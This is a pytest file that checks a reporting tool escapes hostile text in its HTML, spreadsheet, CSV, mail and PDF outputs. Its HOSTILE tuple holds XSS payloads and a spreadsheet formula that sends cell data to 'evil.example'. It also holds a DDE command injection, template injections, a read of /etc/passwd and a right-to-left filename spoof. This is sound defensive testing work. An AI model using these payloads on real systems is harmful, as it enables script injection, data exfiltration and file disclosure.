"""Names and comments that try to run, to lead elsewhere or to read as something else."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from guideway.reporting.content import ReportContent
from guideway.reporting.html import render_html
from guideway.reporting.inert import inert, inert_cell
from guideway.reporting.mail import render_mail
from guideway.reporting.outlook import outlook
from guideway.reporting.pdf import render_pdf
from guideway.reporting.publish import publish
from guideway.reporting.summary import summarise
from tests.unit.reporting.unpacking import unpack_page

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</style></script><svg onload=alert(1)>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "javascript:alert(1)",
    '#read("/etc/passwd") #import "x.typ" *bold* $x$ @ref',
    "{{ 7*7 }} {% raw %} ${7*7}",
    "abc\u202egpj.exe",
    "nul\x00 bell\x07",
    "<!--/banner-->",
)


OVERRIDE = next(text for text in HOSTILE if "\u202e" in text)


def poisoned(content: ReportContent) -> ReportContent:
    """Every free text of the content is hostile."""

    def texts(n: int) -> list[str]:
        return [HOSTILE[k % len(HOSTILE)] for k in range(n)]

    def spoil(frame: pd.DataFrame, *names: str) -> pd.DataFrame:
        return frame.assign(**{name: texts(len(frame)) for name in names})

    return dataclasses.replace(
        content,
        network_name="".join(HOSTILE[:3]) + HOSTILE[13],
        run_id=HOSTILE[0],
        banner=HOSTILE[2],
        lines=spoil(content.lines, "name"),
        assets=spoil(content.assets, "name", "structure", "track_form"),
        exceedance=spoil(content.exceedance, "reason", "unit"),
        work_plan=spoil(content.work_plan, "reason", "currency", "work_type", "track_id"),
        maintenance_plan=content.maintenance_plan.assign(status=HOSTILE[3], currency=OVERRIDE),
        deferral=spoil(content.deferral, "reason", "currency", "work_type", "track_id"),
        intervention=spoil(content.intervention, "work_type").assign(source="inferred"),
        source_file=spoil(content.source_file, "path", "reason", "source_id"),
        misaligned=spoil(content.misaligned, "recording_id", "method"),
        unmeasured=spoil(content.unmeasured, "recording_id", "reason"),
        limits=spoil(content.limits, "standard", "edition", "rulebook_id"),
        failure_risk=content.failure_risk.assign(reason_codes=[[text] for text in texts(len(content.failure_risk))]),
        indicator_titles=dict.fromkeys(content.indicator_titles, HOSTILE[0]),
        table_versions={HOSTILE[0]: 1},
    )


@pytest.fixture(scope="module")
def hostile(small: ReportContent) -> ReportContent:
    return poisoned(small)


def test_the_page_escapes_what_its_template_writes_and_packs_the_rest(hostile: ReportContent) -> None:
    page = render_html(hostile)
    assert page.count("<script") == 2
    assert page.count("</script>") == 2
    assert page.count("<style>") == page.count("</style>") == 1
    assert "<img" not in page
    assert "<svg onload" not in page
    assert page.count("<!--/banner-->") == 1
    assert "\u202e" not in page
    header, _ = unpack_page(page)
    assert "\ufffd" in header["meta"]["plan"]["en"]
    assert not any(re.search("[\x00\x07\u202e]", said) for said in header["meta"]["plan"].values())
    assert HOSTILE[0] in header["assets"]["c"]["name"]["v"]
    assert not any(re.search("[\x00\x07\u202e]", name) for name in header["assets"]["c"]["name"]["v"])


def test_workbooks_hold_texts_and_numbers_but_no_formula_and_no_link(hostile: ReportContent, tmp_path: Path) -> None:
    report = publish(hostile, tmp_path)
    seen = set()
    for name in ("worklist.xlsx", "condition.xlsx"):
        book = openpyxl.load_workbook(report.folder / name)
        for sheet in book.worksheets:
            assert not sheet._hyperlinks
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type in {"s", "n", "d"}, (name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        seen.add(cell.value)
    assert HOSTILE[3] in seen
    works = openpyxl.load_workbook(report.folder / "worklist.xlsx").worksheets[0]
    costs = [works.cell(row=k + 2, column=10).value for k in range(len(hostile.work_plan))]
    assert costs == pytest.approx(hostile.work_plan["cost"].tolist())


def test_no_csv_cell_starts_like_a_formula(hostile: ReportContent, tmp_path: Path) -> None:
    report = publish(hostile, tmp_path)
    for path in report.folder.glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
            for cell in row:
                if re.fullmatch(r"[-+]?\d+(\.\d+)?([eE][-+]?\d+)?", cell):
                    continue
                assert not cell.lstrip()[:1] or cell.lstrip()[0] not in "=+-@＝＋－＠", (path.name, cell)
    work = pd.read_csv(report.folder / "work_plan.csv", encoding="utf-8-sig")
    assert work["cost"].tolist() == pytest.approx(hostile.work_plan["cost"].tolist())


def test_mail_has_one_subject_line_ten_lines_and_no_markup_of_the_data(hostile: ReportContent) -> None:
    rows = outlook(hostile)
    mail = render_mail(hostile, rows, summarise(hostile, rows))
    assert len(mail.subject.splitlines()) == 1
    assert len(mail.text.strip().splitlines()) <= 10
    assert not re.search(r"<(script|img|svg)", mail.html)
    assert "\u202e" not in mail.html + mail.text + mail.subject


def test_the_pdf_sets_hostile_texts_as_texts(hostile: ReportContent) -> None:
    data = render_pdf(hostile, outlook(hostile), summarise(hostile, outlook(hostile)))
    assert data.startswith(b"%PDF-")
    for word in (b"/JavaScript", b"/JS ", b"/Launch", b"/URI", b"/OpenAction", b"root:x:"):
        assert word not in data


@pytest.mark.parametrize("text", HOSTILE)
def test_cells_are_neutral_and_ordinary_texts_stay_as_they_are(text: str) -> None:
    assert inert_cell(text)[0] not in "=+-@\t\r\n＝"
    assert inert("Łódź 九龍 5 °C\nعربي") == "Łódź 九龍 5 °C\nعربي"
    assert inert_cell("km 3+450") == "km 3+450"
